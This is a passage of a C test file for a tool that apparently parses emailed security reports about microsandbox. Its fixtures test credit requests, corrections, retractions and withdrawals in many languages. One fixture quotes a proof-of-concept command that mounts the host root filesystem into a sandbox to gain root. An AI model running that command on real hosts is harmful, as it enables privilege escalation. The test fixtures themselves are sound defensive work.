	  "<bob@example.org> wrote:\n> msb 0.8.5 here. Please credit me as Bob Example.\n", "0.8.5", FALSE },
	/* (1596) ... or an attribution naming the writer by the From display
	 * name alone, in any language, without ASCII case */
	{ "Re: socket dell'agente", "Ci sono novità? Sono passate due settimane.\n\n"
	  "Il 12/03/27 10:05, Rep Orter ha scritto:\n> The agent socket is world-writable, msb 0.8.6.\n"
	  "> For the advisory, please credit me as Rep Orter.\n", "0.8.6", TRUE },
	{ "Re: socket de l'agent", "Une relance : avez-vous pu reproduire ?\n\n"
	  "Le ven. 12 mars 2027 à 10:05, Rep Orter a écrit :\n> msb 0.8.7: the agent socket is open to all.\n"
	  "> If you publish an advisory, credit: Rep Orter\n", "0.8.7", TRUE },
	{ "Re: Agent-Socket", "Gibt es schon einen Stand?\n\n"
	  "Am Fr., 12. März 2027 um 10:05 Uhr schrieb rep orter:\n> Seen on msb 0.8.8.\n"
	  "> Please credit me as Rep Orter.\n", "0.8.8", TRUE },
	/* ... but not a longer name that starts with it, nor the name over
	 * someone else's address, nor the name in prose above a third party's
	 * attribution */
	{ "Re: socket dell'agente", "Novità?\n\nIl 12/03/27 10:05, Rep Orter Bianchi ha scritto:\n"
	  "> msb 0.8.6 here. Please credit me as Rep Bianchi.\n", "0.8.6", FALSE },
	{ "Re: socket dell'agente", "Novità?\n\nIl 12/03/27 10:05, Rep Orterson ha scritto:\n"
	  "> msb 0.8.6 here. Please credit me as Rep Orterson.\n", "0.8.6", FALSE },
	{ "Re: agent socket", "Any news?\n\nOn Fri, 12 Mar 2027 at 10:05, Rep Orter <bob@example.org> wrote:\n"
	  "> msb 0.8.5 here. Please credit me as Bob Example.\n", "0.8.5", FALSE },
	{ "Re: agent socket", "Rep Orter again, passing this on.\n\nOn Fri, 12 Mar 2027 at 10:05, Bob Example wrote:\n"
	  "> msb 0.8.5 here. Please credit me as Bob Example.\n", "0.8.5", FALSE },
	/* a response's "Date:" over another field is no reply header */
	{ NULL, "HTTP/1.1 200 OK\nDate: Tue, 01 Dec 2026 10:00:00 GMT\nServer: msb-api\n\n"
	  "Seen with msb 0.8.4.  Please credit me as Ann Example.\n", "0.8.4", TRUE },
};

/* A credit name the mail gives without its link takes the link an
 * attached text gives after the same name (1376); not a longer name's,
 * not a link further down the line, not when the writer wants none. */
static void
test_credit_link_attached(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	static const struct {
		const char *body, *att, *link;
	} cases[] = {
		{ "Our auditors found this, write-up attached.\nPlease credit Heronsgate Labs as in the report.\n",
		  "FINDING HG-7\n\nmsb 0.9.1 leaks the token.\n\nAcknowledgements\n"
		  "Heronsgate Labs - https://heronsgate.example/team\n", "https://heronsgate.example/team" },
		{ "Bitte nennt Heronsgate Labs wie in der Datei angegeben.\n",
		  "Credit: Heronsgate Labs (https://heronsgate.example)\n", "https://heronsgate.example" },
		/* a longer name that starts with it is someone else */
		{ "Please credit Heronsgate Labs as in the file.\n",
		  "Heronsgate Labs Berlin, https://berlin.example\n", NULL },
		/* the name in prose, a link later on the line */
		{ "Please credit Heronsgate Labs as in the file.\n",
		  "Heronsgate Labs tested against https://console.example/login\n", NULL },
		/* the writer wants no link */
		{ "Please credit Heronsgate Labs, no link please.\n",
		  "Heronsgate Labs, https://heronsgate.example\n", NULL },
	};
	for (gsize i = 0; i < G_N_ELEMENTS(cases); i++) {
		const Att atts[] = { { "finding.txt", "text/plain", cases[i].att, 0 }, { NULL, NULL, NULL, 0 } };
		g_autoptr(StAnalysis) a = analyse(rules, "finding", cases[i].body, atts);
		g_test_message("case %" G_GSIZE_FORMAT, i);
		g_assert_true(a->credit_found);
		g_assert_cmpstr(a->credit_name, ==, "Heronsgate Labs");
		g_assert_cmpstr(a->credit_link, ==, cases[i].link);
	}
}

/* One StXQuote asked every question, in any order, answers as a fresh
 * st_x_prepare or st_x_quoted each time, and the per-window literal scans
 * of its reply headers skip no header that running every pattern (rules
 * loaded with ST_PREFILTER=0) finds (#9). */
static void
test_quote_shared(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const StRuleGroup *header = st_rules_group(rules, "quote.header");
	const StRuleGroup *ours = st_rules_group(rules, "quote.ours");
	/* the same rules without the prefilter: every pattern runs, and the
	 * groups found through the rules ([quote.forward]) are there */
	g_setenv("ST_PREFILTER", "0", TRUE);
	g_autoptr(StRules) plain = tu_repo_rules();
	g_unsetenv("ST_PREFILTER");
	const StRuleGroup *pheader = st_rules_group(plain, "quote.header");
	const StRuleGroup *pours = st_rules_group(plain, "quote.ours");
	const char *extra[] = {
		"Plain text, no quote.\nmsb 0.8.1 on Fedora 41.\n",
		"Inline answers.\n> first quoted\n\nmine\n> second quoted\n",
		("Top.\n\nOn Thu, 26 Nov 2026 16:40, Ann <ann@example.org> wrote:\n> a\n> b\n\n"
		 "26.11.2026 16:40, Bob <bob@example.org> \u043f\u0438\u0448\u0435\u0442:\n> c\n"),
		"",
	};
	g_assert_nonnull(header);
	for (gsize i = 0; i < G_N_ELEMENTS(reply_headers) + G_N_ELEMENTS(extra); i++) {
		const char *body = i < G_N_ELEMENTS(reply_headers) ? reply_headers[i].body
			: extra[i - G_N_ELEMENTS(reply_headers)];
		g_autofree char *keep = st_x_prepare(rules, body, TRUE, ours, header);
		g_autofree char *own = st_x_prepare(rules, body, FALSE, NULL, header);
		g_autofree char *all = st_x_prepare(rules, body, TRUE, NULL, header);
		gboolean quoted = st_x_quoted(rules, body, header);
		g_autofree char *keep_all = st_x_prepare(plain, body, TRUE, pours, pheader);
		g_autofree char *own_all = st_x_prepare(plain, body, FALSE, NULL, pheader);

		g_test_message("case %" G_GSIZE_FORMAT, i);
		g_assert_cmpstr(keep, ==, keep_all);
		g_assert_cmpstr(own, ==, own_all);
		g_assert_cmpint(quoted, ==, st_x_quoted(plain, body, pheader));
		for (int order = 0; order < 2; order++) {
			g_autoptr(StXQuote) q = st_x_quote_new(rules, body, header);
			g_autofree char *a = NULL, *b = NULL, *c = NULL;
			gboolean any;
			if (order == 0) {
				a = st_x_quote_prepare(q, TRUE, ours, FALSE);
				any = st_x_quote_any(q);
				b = st_x_quote_prepare(q, FALSE, NULL, FALSE);
				c = st_x_quote_prepare(q, TRUE, NULL, FALSE);
			} else {
				c = st_x_quote_prepare(q, TRUE, NULL, FALSE);
				b = st_x_quote_prepare(q, FALSE, NULL, FALSE);
				any = st_x_quote_any(q);
				a = st_x_quote_prepare(q, TRUE, ours, FALSE);
			}
			g_assert_cmpstr(a, ==, keep);
			g_assert_cmpstr(b, ==, own);
			g_assert_cmpstr(c, ==, all);
			g_assert_cmpint(any, ==, quoted);
		}
	}
}

static void
test_reply_headers(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(reply_headers); i++) {
		g_autoptr(StAnalysis) a = analyse(rules, reply_headers[i].subject, reply_headers[i].body, NULL);
		g_test_message("case %" G_GSIZE_FORMAT, i);
		g_assert_cmpstr(a->version, ==, reply_headers[i].version);
		g_assert_cmpint(a->credit_found, ==, reply_headers[i].credit);
		g_assert_false(a->credit_anonymous);
	}
}

/* A reply to our mail (our tracking id in the subject) has the subject we
 * sent: a thanks under it describes nothing, though the subject would. */
#define THANKS "Thanks a lot for the quick fix, much appreciated by the whole team here!\n\nSent from my phone\n"

static void
test_reply_subject(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *topic = "Python SDK: a failed sandbox.run() prints the API key in its traceback";
	g_autofree char *reply = g_strdup_printf("Re: [SEC-2026-0104] %s", topic);
	g_autoptr(StAnalysis) a = analyse(rules, reply, THANKS, NULL);
	g_autoptr(StAnalysis) b = analyse(rules, topic, THANKS, NULL);

	g_assert_false(a->check[ST_CHECK_DESCRIPTION]);
	g_assert_true(b->check[ST_CHECK_DESCRIPTION]);
}

/* Issue #3: a follow-up that names the right host beside the one first
 * written ("..., not the Ubuntu desktop I first wrote") or says an
 * earlier mail corrected it is a correction: its host, on the same
 * system, replaces the report's; a host merely repeated is none. */
static void
test_revise_host_restated(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *report =
		PROSE "Restore the snapshot twice and the second copy shows the first one's files.\n\n"
		"$ msb --version\nmsb 0.8.2\nThe box is Ubuntu 24.04, kernel 6.8.0-51-generic.\n";
	const char *fixed[] = {
		"The tests ran on the lab server with Fedora 41 (kernel 6.12.5-200.fc41.x86_64),\n"
		"not the Ubuntu laptop I originally mentioned.\n",
		"My second mail, which also corrected the host: Fedora 41, kernel 6.12.5-200.fc41.x86_64.\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(fixed); i++) {
		g_autoptr(StAnalysis) base = analyse(rules, "Snapshot restore shares files", report, NULL);
		g_autoptr(StAnalysis) r = analyse(rules, "Re: Snapshot restore shares files", fixed[i], NULL);
		if (!r->corrects[ST_CHECK_PLATFORM])
			FAIL("host restated %zu: not read as a correction (%s)", i, r->distro);
		st_analysis_merge(base, r);
		if (g_strcmp0(base->distro, "Fedora 41") || g_strcmp0(base->kernel, "6.12.5-200.fc41.x86_64"))
			FAIL("host restated %zu: %s %s", i, base->distro, base->kernel);
	}
	const char *plain[] = {
		"Same on the lab server with Fedora 41 (kernel 6.12.5-200.fc41.x86_64), as I first wrote.\n",
		"The release notes corrected the version check bug; Fedora 41, kernel 6.12.5-200.fc41.x86_64 here.\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(plain); i++) {
		g_autoptr(StAnalysis) base = analyse(rules, "Snapshot restore shares files", report, NULL);
		g_autoptr(StAnalysis) r = analyse(rules, "Re: Snapshot restore shares files", plain[i], NULL);
		if (r->corrects[ST_CHECK_PLATFORM])
			FAIL("host plain %zu: read as a correction (%s)", i, r->corrects_evidence);
		st_analysis_merge(base, r);
		if (g_strcmp0(base->distro, "Ubuntu 24.04") != 0)
			FAIL("host plain %zu: distro %s", i, base->distro);
	}
}

/* A follow-up that corrects what the report said: the version (or the
 * host) the writer's own text gives replaces the report's in the merged
 * facts; a reply that only adds or repeats corrects nothing. */
static void
test_revise_correction(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *report =
		PROSE "Restore the snapshot twice and the second copy shows the first one's files.\n\n"
		"$ msb --version\nmsb 0.8.2\nHost: Debian 12, kernel 6.1.0-27-amd64\n";
	g_autoptr(StAnalysis) first = analyse(rules, "Snapshot restore shares files", report, NULL);
	g_assert_cmpstr(first->version, ==, "0.8.2");

	g_autoptr(StAnalysis) fix = analyse(rules, "Re: Snapshot restore shares files",
		"One correction to my report: I said msb 0.8.2 in my first mail, but the box I\n"
		"tested on runs\n\n  $ msb --version\n  msb 0.8.4\n\nEverything else is as written.\n\n"
		"On Mon, 2 Nov 2026 Rep Orter wrote:\n"
		"> Restore the snapshot twice and the second copy shows the first one's files.\n>\n"
		"> $ msb --version\n> msb 0.8.2\n> Host: Debian 12, kernel 6.1.0-27-amd64\n", NULL);
	g_assert_cmpstr(fix->version, ==, "0.8.4");
	g_assert_true(fix->corrects[ST_CHECK_VERSION]);
	g_assert_false(fix->corrects[ST_CHECK_PLATFORM]);   /* its own text names no host */
	g_assert_nonnull(fix->corrects_evidence);
	st_analysis_merge(first, fix);
	g_assert_cmpstr(first->version, ==, "0.8.4");
	g_assert_cmpstr(first->distro, ==, "Debian 12");
	g_assert_true(first->check[ST_CHECK_VERSION]);

	/* the host corrected: another operating system replaces the old one whole */
	g_autoptr(StAnalysis) again = analyse(rules, "Snapshot restore shares files", report, NULL);
	g_autoptr(StAnalysis) host = analyse(rules, "Re: Snapshot restore shares files",
		"Correction: wrong machine in my report, sorry. This was on macOS 15.2 on an M4 Pro.\n\n"
		"> $ msb --version\n> msb 0.8.2\n> Host: Debian 12, kernel 6.1.0-27-amd64\n", NULL);
	g_assert_true(host->corrects[ST_CHECK_PLATFORM]);
	st_analysis_merge(again, host);
	g_assert_cmpstr(again->os, ==, "macos");
	g_assert_null(again->distro);
	g_assert_null(again->kernel);
	g_assert_cmpstr(again->macos_version, ==, "15.2");
	g_assert_cmpstr(again->chip, ==, "Apple M4 Pro");
	g_assert_true(again->check[ST_CHECK_PLATFORM]);
	g_assert_cmpstr(again->version, ==, "0.8.2");

	/* a correction after an apology, the host it names replaces the report's */
	g_autoptr(StAnalysis) third = analyse(rules, "Snapshot restore shares files", report, NULL);
	g_autoptr(StAnalysis) sorry = analyse(rules, "Re: Snapshot restore shares files",
		"Sorry, a correction to the report below: it was not my laptop but the build box,\n"
		"which is a Mac mini with M4, macOS 15.1.1.\n\n"
		"> $ msb --version\n> msb 0.8.2\n> Host: Debian 12, kernel 6.1.0-27-amd64\n", NULL);
	g_assert_true(sorry->corrects[ST_CHECK_PLATFORM]);
	st_analysis_merge(third, sorry);
	g_assert_cmpstr(third->os, ==, "macos");
	g_assert_cmpstr(third->macos_version, ==, "15.1.1");
	g_assert_cmpstr(third->chip, ==, "Apple M4");

	/* (1340) the writer says they were wrong about the version, in
	 * English and other languages: the version the message gives replaces
	 * the report's */
	const char *wrong[] = {
		"I was wrong about the version, sorry: that was the SDK. The CLI is\n\n  $ msb --version\n  msb 0.8.4\n",
		"Turns out I got the version wrong. msb --version on the box says 0.8.4.\n",
		"Me equivoqu\xc3\xa9 con la versi\xc3\xb3n: msb --version dice 0.8.4.\n",
		"Ich habe mich bei der Version geirrt, msb --version zeigt 0.8.4.\n",
		"Je me suis tromp\xc3\xa9 de version : msb --version affiche 0.8.4.\n",
		/* (1811) the label in Polish, or saying what it corrects */
		"Poprawka do mojego poprzedniego maila: to nie by\xc5\x82\x61 wersja z maina,\nmsb --version pokazuje 0.8.4.\n",
		"Sprostowanie: msb --version na tym serwerze to 0.8.4.\n",
		"Pomyli\xc5\x82\x61m si\xc4\x99 co do wersji, msb --version daje 0.8.4.\n",
		"Korrektur zu meiner Mail von gestern: msb --version zeigt 0.8.4.\n",
		"Correzione alla mia mail di ieri: msb --version dice 0.8.4.\n",
		"Correction to yesterday's mail: the box runs msb 0.8.4.\n",
		/* (#3) the writer corrects an item, or says what they wrote was wrong */
		"Let me correct a detail from my report: msb --version on the test box prints 0.8.4.\n",
		"I must correct one small thing I sent before. It was msb 0.8.4 all along.\n",
		"Under Version I wrote msb 0.8.2 (from the laptop), but that was wrong;\nthe server has msb 0.8.4.\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(wrong); i++) {
		g_autoptr(StAnalysis) base = analyse(rules, "Snapshot restore shares files", report, NULL);
		g_autoptr(StAnalysis) r = analyse(rules, "Re: Snapshot restore shares files", wrong[i], NULL);
		if (!r->corrects[ST_CHECK_VERSION])
			FAIL("revise wrong %zu: not read as a correction (version %s)", i, r->version);
		st_analysis_merge(base, r);
		if (g_strcmp0(base->version, "0.8.4") != 0)
			FAIL("revise wrong %zu: version %s", i, base->version);
	}

	/* no correction: the first version stated stays */
	const char *plain[] = {
		"Thanks! Still reproduces with msb 0.8.5 after the upgrade.\n\n> $ msb --version\n> msb 0.8.2\n",
		"Correction of the socket mode alone would fix it.  We run msb 0.8.5 here.\n",
		"I said it might affect the SDK too, and I was right: msb 0.8.5 shows it.\n",
		/* (1340) no correction of a fact: a condition, another matter */
		"If I was wrong about the version, say so; msb 0.8.5 is what CI runs.\n",
		"I was wrong about the impact: msb 0.8.5 shows it only for root.\n",
		/* (1811) the Polish word for a fix, not a correction of the mail */
		"Poprawka do obs\xc5\x82ugi gniazda by to naprawi\xc5\x82\x61. U nas msb 0.8.5.\n",
		"Poprawka w 0.8.6 nic nie zmienia, nadal widz\xc4\x99 to na msb 0.8.5.\n",
		"Korrektur der Rechte allein reicht nicht; msb 0.8.5 zeigt es.\n",
		/* (#3) a fix of the code, a script that failed: no fact of the mail */
		"A patch to correct an error in the mount code would help. We run msb 0.8.5.\n",
		"I wrote a small patch for msb 0.8.5, but it is not correct yet.\n",
		"I said the socket is 0666 and that is right, msb 0.8.5 still shows it.\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(plain); i++) {
		g_autoptr(StAnalysis) base = analyse(rules, "Snapshot restore shares files", report, NULL);
		g_autoptr(StAnalysis) r = analyse(rules, "Re: Snapshot restore shares files", plain[i], NULL);
		if (r->corrects[ST_CHECK_VERSION] || r->corrects[ST_CHECK_PLATFORM])
			FAIL("revise plain %zu: read as a correction (%s)", i, r->corrects_evidence);
		st_analysis_merge(base, r);
		if (g_strcmp0(base->version, "0.8.2") != 0)
			FAIL("revise plain %zu: version %s", i, base->version);
	}
}

/* A Mac report's host over a thread: a reply that adds the chip completes
 * the macOS version of the first mail; a reply that says the run was on
 * another Mac ("I mixed up my machines", a correction to both mails)
 * replaces the version and the chip; a reply that names another Mac in
 * passing replaces nothing. */
static void
test_revise_mac_host(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *report =
		PROSE "The exported archive keeps the guest's symlink and the next export follows it.\n\n"
		"$ msb --version\nmsb 0.9.4\nI am on macOS Ventura 13.7 on my MacBook Air.\n";
	const char *quote =
		"\n\nOn Tue, 3 Nov 2026 Rep Orter wrote:\n"
		"> The exported archive keeps the guest's symlink and the next export follows it.\n>\n"
		"> $ msb --version\n> msb 0.9.4\n> I am on macOS Ventura 13.7 on my MacBook Air.\n";
	const char *subject = "Re: Export follows guest symlinks";

	/* the chip alone, added later: the thread's platform is complete */
	g_autoptr(StAnalysis) first = analyse(rules, "Export follows guest symlinks", report, NULL);
	g_assert_false(first->check[ST_CHECK_PLATFORM]);
	g_autofree char *add = g_strconcat("Should have said: the chip is an M2.\n", quote, NULL);
	g_autoptr(StAnalysis) chip = analyse(rules, subject, add, NULL);
	g_assert_cmpstr(chip->chip, ==, "Apple M2");
	st_analysis_merge(first, chip);
	g_assert_cmpstr(first->macos_version, ==, "13.7");
	g_assert_cmpstr(first->chip, ==, "Apple M2");
	g_assert_true(first->check[ST_CHECK_PLATFORM]);

	/* the run was on another Mac: its version and chip replace the first */
	const char *moved[] = {
		"Sorry, I mixed up my machines: the export ran on the office iMac.\n\n"
		"$ sw_vers -productVersion\n15.4\n$ sysctl -n machdep.cpu.brand_string\nApple M3\n",
		"Correction to both mails below: the transcript is from the build Mac mini,\n"
		"macOS 15.4 on an M3, not from the Air.\n",
		"I got the two laptops confused. The one that ran it is on macOS 15.4 with the M3 chip.\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(moved); i++) {
		g_autoptr(StAnalysis) base = analyse(rules, "Export follows guest symlinks", report, NULL);
		st_analysis_merge(base, chip);
		g_autofree char *body = g_strconcat(moved[i], quote, NULL);
		g_autoptr(StAnalysis) r = analyse(rules, subject, body, NULL);
		if (!r->corrects[ST_CHECK_PLATFORM])
			FAIL("mac host %zu: not read as a correction (%s %s)", i, r->macos_version, r->chip);
		st_analysis_merge(base, r);
		if (g_strcmp0(base->macos_version, "15.4") != 0 || g_strcmp0(base->chip, "Apple M3") != 0)
			FAIL("mac host %zu: %s %s", i, base->macos_version, base->chip);
	}

	/* another Mac named in passing, a mix-up only supposed: the host stays */
	const char *aside[] = {
		"My colleague's Mac mini (macOS 15.4, M3) shows the same, for what it is worth.\n",
		"If I mixed up my machines I will tell you; the iMac has macOS 15.4 and an M3.\n",
		"Don't mix up the hosts: CI is a Mac mini on macOS 15.4 with an M3, not mine.\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(aside); i++) {
		g_autoptr(StAnalysis) base = analyse(rules, "Export follows guest symlinks", report, NULL);
		st_analysis_merge(base, chip);
		g_autofree char *body = g_strconcat(aside[i], quote, NULL);
		g_autoptr(StAnalysis) r = analyse(rules, subject, body, NULL);
		if (r->corrects[ST_CHECK_PLATFORM])
			FAIL("mac aside %zu: read as a correction (%s)", i, r->corrects_evidence);
		st_analysis_merge(base, r);
		if (g_strcmp0(base->macos_version, "13.7") != 0 || g_strcmp0(base->chip, "Apple M2") != 0)
			FAIL("mac aside %zu: %s %s", i, base->macos_version, base->chip);
	}
}

/* A follow-up that takes back the report's evidence (the output made by an
 * assistant, the steps never run, the version made up): those items count
 * only where a message shows them anew. */
static void
test_revise_retraction(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();
	const char *report =
		PROSE "$ msb run --name a -v /:/host alpine -- id\nuid=0(root) gid=0(root)\n\n"
		"$ msb --version\nmsb 0.8.3\nHost: Fedora Linux 41, kernel 6.11.4-301.fc41.x86_64\n";
	g_autoptr(StAnalysis) first = analyse(rules, "Local root through the volume flag", report, NULL);
	g_assert_true(first->check[ST_CHECK_POC]);
	g_assert_true(first->check[ST_CHECK_LOGS]);
	g_assert_true(first->check[ST_CHECK_PLATFORM]);

	/* quoting the whole report: the quote is what it takes back */
	g_autoptr(StAnalysis) back = analyse(rules, "Re: Local root through the volume flag",
		"Please hold off. The transcript below was written by ChatGPT, and the version and\n"
		"kernel lines were made up too. I never ran the exploit.\n\n"
		"> $ msb run --name a -v /:/host alpine -- id\n> uid=0(root) gid=0(root)\n>\n"
		"> $ msb --version\n> msb 0.8.3\n> Host: Fedora Linux 41, kernel 6.11.4-301.fc41.x86_64\n", NULL);
	for (int c = ST_CHECK_POC; c < ST_CHECK_N; c++) {
		g_assert_true(back->retracts[c]);
		g_assert_false(back->check[c]);
	}
	g_assert_null(back->version);
	g_assert_null(back->os);
	g_assert_nonnull(back->retracts_evidence);
	st_analysis_merge(first, back);
	g_assert_true(first->check[ST_CHECK_DESCRIPTION]);
	for (int c = ST_CHECK_POC; c < ST_CHECK_N; c++)
		g_assert_false(first->check[c]);
	g_assert_null(first->version);
	g_assert_null(first->distro);

	/* the output taken back, new output shown: logs again, from the reply */
	g_autoptr(StAnalysis) again = analyse(rules, "Local root through the volume flag", report, NULL);
	g_autoptr(StAnalysis) fresh = analyse(rules, "Re: Local root through the volume flag",
		"Sorry, the output in my first mail was generated by the assistant. Here is what\n"
		"I really get:\n\n$ msb run --name a -v /:/host alpine -- id\nuid=1000(me) gid=1000(me)\n", NULL);
	g_assert_true(fresh->retracts[ST_CHECK_LOGS]);
	g_assert_false(fresh->retracts[ST_CHECK_VERSION]);
	g_assert_true(fresh->check[ST_CHECK_LOGS]);
	st_analysis_merge(again, fresh);
	g_assert_true(again->check[ST_CHECK_LOGS]);
	g_assert_cmpstr(again->version, ==, "0.8.3");

	/* statements that take nothing back */
	const char *plain[] = {
		"None of the output was generated by an AI; I ran every command myself.\n",
		"I haven't run it on 0.8.7 yet, I will tomorrow.\n",
		"I never ran it as root, only as my normal user.\n",
		"I attach the log file from my test (the key inside is fake).\n",
		"The results were what I expected to see: uid=0.\n",
	};
	for (gsize i = 0; i < G_N_ELEMENTS(plain); i++) {
		g_autoptr(StAnalysis) r = analyse(rules, "Re: Local root through the volume flag", plain[i], NULL);
		for (int c = 0; c < ST_CHECK_N; c++)
			if (r->retracts[c])
				FAIL("retract plain %zu: %s taken back (%s)", i, st_check_names[c],
				     r->retracts_evidence);
	}
}

/* A follow-up that withdraws the report as a whole ("I withdraw my
 * report: it was my mistake"), in the wordings and languages reporters
 * use: it takes back the description with the PoC and logs, describes
 * nothing and gets no class or component though our subject names the
 * finding, and the merged report keeps nothing reported (no class,
 * component or out-of-scope reason, no item "not applicable") but the
 * version and host.  Corrections of a part, questions, refusals and
 * requests to close a report that stands withdraw nothing. */
#define WD_SUBJECT "Re: [SEC-2026-0311] Received: Release tarball on the mirror is not the signed one"
#define WD_QUOTE "\nOn Tue, 3 Nov 2026 security@superrad.company wrote:\n" \
	"> Thank you for your report. We have filed it as SEC-2026-0311.\n"

/* A credit asked for only if the report holds ([credit.conditional]) is
 * taken back by a later withdrawal of the report (1474); an unconditional
 * one, or a condition on publishing, stays. */
static const struct {
	const char *request, *withdrawal;
	gboolean kept;
} conditional_credits[] = {
	{ "If this is confirmed, you can credit me as Oskar Lind.", "So it's not a bug after all. Thanks for looking.\n",
	  FALSE },
	{ "Falls sich das bestätigt, nennen Sie mich bitte als Greta Sommer.",
	  "Please disregard my report. It was my mistake: the proxy cached an old file.\n", FALSE },
	{ "Si se confirma, pueden acreditarme como Lucía Pardo.", "Sorry for the noise, this was a false alarm.\n",
	  FALSE },
	{ "Please credit me as Oskar Lind.", "So it's not a bug after all. Thanks for looking.\n", TRUE },
	{ "If you write an advisory, please credit me as Oskar Lind.",
	  "So it's not a bug after all. Thanks for looking.\n", TRUE },
	{ "I confirmed it on two hosts; please credit me as Oskar Lind.",
	  "So it's not a bug after all. Thanks for looking.\n", TRUE },
};

static void
test_credit_conditional_withdrawn(void)
{
	g_autoptr(StRules) rules = tu_repo_rules();

	for (gsize i = 0; i < G_N_ELEMENTS(conditional_credits); i++) {
		g_autofree char *body = g_strconcat(PROSE, "\n", conditional_credits[i].request, "\n", NULL);
		g_autoptr(StAnalysis) first = analyse(rules, "Egress policy skips DNS", body, NULL);
		if (!first->credit_found || first->credit_anonymous || first->credit_name == NULL) {
			FAIL("conditional credit %zu: request not read (%s)", i, conditional_credits[i].request);
			continue;
		}
		g_autoptr(StAnalysis) back = analyse(rules, "Re: Egress policy skips DNS",
						     conditional_credits[i].withdrawal, NULL);
		if (!back->retracts[ST_CHECK_DESCRIPTION]) {
			FAIL("conditional credit %zu: withdrawal not read", i);
			continue;
		}
		st_analysis_merge(first, back);
		if (first->credit_found != conditional_credits[i].kept)
			FAIL("conditional credit %zu (%s): credit %s after the withdrawal", i,
			     conditional_credits[i].request, first->credit_found ? "kept" : "dropped");
	}
}

static const char *const withdrawals[] = {
	("Hello,\n\nI have to withdraw my report, sorry. I had downloaded the tarball from a\n"
	 "look-alike mirror and not from your release page.\n"),
	"Hi, I'm retracting the report: my own script rewrote the URL.\n",
	"Please consider my report withdrawn. The checksums match when I fetch it again.\n",
	"I would like to take back my submission, the difference came from my proxy.\n",
	"Please disregard my report. It was my mistake: the proxy cached an old file.\n",
	"Turns out it was user error on my side, please close the ticket.\n",
	"Sorry for the noise, this was a false alarm.\n",
	"So it's not a bug after all. Thanks for looking.\n",
	"Buongiorno, vorrei ritirare la mia segnalazione: avevo scaricato il file sbagliato.\n",
	"Hola, retiro mi reporte, fue culpa mía.\n",
	"Olá, preciso retirar o relatório, foi um erro meu.\n",
	"Bonjour, je retire mon signalement, c'était une fausse alerte.\n",
	"Hallo, ich ziehe meine Meldung hiermit zurück, es war ein Bedienfehler.\n",
	"Hoi, ik trek mijn melding in, het was vals alarm.\n",
	"Dzień dobry, muszę wycofać zgłoszenie, to był mój błąd.\n",
	"Здравствуйте, отзываю свой отчёт, это была моя ошибка.\n",
	"お世話になっております。先日の報告を取り下げます。誤報でした。\n",
	"您好，我想撤回我的报告，是误报。\n",
	"안녕하세요. 제보를 철회합니다. 제 실수였습니다.\n",
	"Merhaba, raporumu geri çekiyorum, yanlış alarmmış.\n",
	/* "not a bug after all" in the Romance languages and German (1474) */
	"Bonjour,\n\nJ'ai revérifié : ce n'était finalement pas une faille, le miroir\n"
	"de notre entreprise servait une vieille archive. Vous pouvez classer l'affaire.\n",
	"Finalement, ce n'est pas un bug : notre proxy réécrivait l'URL.\n",
	"Hola de nuevo: al final no era un fallo, nuestro proxy servía una copia vieja.\n",
	"Ciao, alla fine non è un bug: il proxy aziendale cambiava il file.\n",
	"Oi, afinal não é uma vulnerabilidade, era o cache do nosso proxy.\n",
	"Hallo, es ist also doch kein Bug, unser Proxy hat die Datei ausgetauscht.\n",
	/* a request to close the case because it was no flaw of ours, in
	 * either order (1875) */
	("Bonjour,\n\nVous pouvez fermer mon signalement : ce n'est pas un bug de msb,\n"
	 "c'est le miroir interne de notre société qui servait une vieille archive.\n"),
	"Ce n'était pas une vulnérabilité de microsandbox. Merci de classer le dossier.\n",
	"Hola, pueden cerrar el caso: no era un fallo de microsandbox, sino de nuestro proxy.\n",
	"Ciao, potete chiudere la segnalazione, non era un bug di msb ma del nostro mirror.\n",
	"Olá, podem encerrar o chamado: não era uma falha do microsandbox, era o nosso cache.\n",
	"Hallo, bitte schließen Sie die Meldung, es war keine Lücke in msb, sondern unser Spiegel.\n",
	"Hoi, de melding mag u sluiten: het was geen lek in microsandbox maar onze proxy.\n",
};

static const char *const not_withdrawals[] = {
	/* a correction of a part: the report stands */
	"I retract the part about the signature, the rest of the report holds: the\n"
	"tarball still differs from the one on the release page.\n",
	"I withdraw my second point; the checksum mismatch itself still reproduces.\n",
	/* a question, a refusal */
	"Should I withdraw my report and send it to the mirror operator instead?\n",
	"Please don't close this, the mirror still serves the altered tarball today.\n",
	"I am not withdrawing the report: it still reproduces on a clean machine.\n",
	"I don't think it was a false alarm, the hash differs on three machines.\n",
	"Non ritiro la segnalazione, il problema c'è ancora.\n",
	/* closing a report that stands */
	"The fix works on my side, you can close the ticket. Thanks!\n",
	/* our question, quoted: the reply keeps the report */
	"No, it is real, I checked again with a fresh download.\n\n"
	"On Wed, 4 Nov 2026 security@superrad.company wrote:\n"
	"> Could this have been a false alarm? Should we close the report?\n",
	/* a wrong attachment, not a wrong report */
	"Please ignore my last mail, the right attachment is here. My mistake.\n",
	/* "not a bug" arguing the report, no "after all" (1474's negatives) */
	"Ce n'est pas un bug de configuration : l'archive diffère aussi sur une machine neuve.\n",
	"No es un fallo del proxy, la suma difiere también sin él.\n",
	"Non è un bug del mirror: anche il sito ufficiale serve lo stesso file.\n",
	"Das ist kein Fehler meiner Konfiguration, es passiert auch auf einem frischen System.\n",
	"Je ne dirais pas que ce n'est finalement pas une faille : le hash diffère toujours.\n",
	/* a condition: "if it turns out not to be a bug" (908) */
	"Si al final no es un fallo de seguridad, avisadme y lo abro como issue normal.\n",
	"Se alla fine non è un bug, ditemelo e apro una issue pubblica.\n",
	"Wenn es doch kein Bug ist, sagen Sie Bescheid, dann melde ich es öffentlich.\n",
	/* "not a flaw of msb" without a request to close, or with "do not
	 * close", or about a third party's code or one of two claims (1875's
	 * negatives) */
